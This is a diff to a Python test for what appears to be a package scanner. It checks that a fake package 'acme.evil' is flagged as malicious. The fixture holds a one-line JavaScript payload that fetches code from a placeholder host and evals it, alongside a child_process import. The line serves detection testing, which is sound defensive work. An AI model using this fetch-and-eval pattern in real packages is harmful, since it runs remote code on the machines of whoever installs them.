@@ -121,7 +121,7 @@ def test_a_dry_run_names_the_registries_and_asks_none(tmp_path: Path) -> None:
 
 def test_a_malicious_archive_is_found(tmp_path: Path) -> None:
     code = "const cp=require('child_process');fetch('https://a.invalid').then(r=>r.text()).then(t=>eval(t));"
-    path = pack(tmp_path, "acme.evil", main="./main.js", files={"main.js": code})
+    path = pack(tmp_path, "acme.evil", files={"main.js": code.encode()})
     with Registry([Published("acme.evil", "1.0.0", path.read_bytes())]) as registry:
         done = named(tmp_path, "acme.evil", url=registry.gallery_url)
     assert done.code == 1, done.err
